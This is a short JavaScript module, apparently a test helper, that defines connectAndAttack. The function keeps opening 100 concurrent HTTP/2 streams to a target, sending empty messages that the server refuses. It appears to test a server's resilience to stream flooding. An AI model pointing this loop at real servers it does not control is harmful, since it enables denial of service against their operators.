import { APPEND, keepCalling, message } from "../support/http2.mjs";

/** Calls that are refused, as many at once as there may be, each followed by the next. */
export function connectAndAttack(address) {
  return keepCalling(address, {
    streams: 100,
    path: APPEND,
    send(stream) {
      stream.resume();
      stream.end(message(Buffer.alloc(0)));
    },
  });
}
